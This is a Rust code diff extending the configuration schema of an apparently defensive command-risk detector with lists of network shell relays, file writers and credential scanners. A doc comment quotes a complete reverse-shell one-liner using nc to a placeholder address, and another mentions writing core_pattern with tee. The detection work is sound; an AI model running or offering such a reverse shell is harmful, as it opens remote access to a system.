@@ -175,6 +175,13 @@ pub struct ExecKnowledge {
     pub netcat: NetcatSpec,
     pub socat: SocatSpec,
     pub downloaders: Vec<String>,
+    /// Programs that carry a network connection: a shell piped to or from one is a reverse or
+    /// bind shell (`cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f`).
+    #[serde(default)]
+    pub shell_relays: Vec<String>,
+    /// Programs whose arguments write to a file (`tee core_pattern`), for `paths[].writes`.
+    #[serde(default)]
+    pub writers: Vec<String>,
     /// Arguments that only print a version or help (`--version`): a program run with nothing
     /// else raises no program rule.
     #[serde(default)]
@@ -204,6 +211,9 @@ pub struct CredentialSearchSpec {
     /// Searchers whose search covers the whole filesystem whatever the arguments (locate).
     #[serde(default)]
     pub whole_filesystem: Vec<String>,
+    /// Programs that only ever search for secrets (trufflehog): from a broad root, the rule.
+    #[serde(default)]
+    pub scanners: Vec<String>,
     /// Case-insensitive substrings that name a credential: a search for one raises the rule.
     pub terms: Vec<String>,
     /// Generic words (password, token): they raise the rule only from a broad root.
@@ -285,6 +295,9 @@ pub struct ProgramSpec {
 pub struct PathSpec {
     pub rule: String,
     pub patterns: Vec<String>,
+    /// Only when written: a redirection target or an argument of one of `exec.writers`.
+    #[serde(default)]
+    pub writes: bool,
 }
 
 #[derive(Debug, Clone, Deserialize, Serialize)]
